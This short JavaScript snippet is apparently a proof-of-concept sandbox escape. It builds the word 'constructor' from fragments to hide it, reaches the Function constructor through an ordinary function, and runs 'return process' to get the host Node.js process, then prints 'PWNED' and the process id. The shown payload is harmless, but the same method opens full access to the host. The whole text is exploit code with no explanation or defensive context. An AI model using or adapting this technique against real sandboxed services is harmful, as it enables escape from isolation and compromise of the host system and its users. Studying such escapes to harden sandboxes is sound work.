const w = ['con', 'structor'].join('');
class C { copy() { return new this.constructor(); }  go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
console.log('PWNED', new C().copy().go(fn)('return process')().pid);
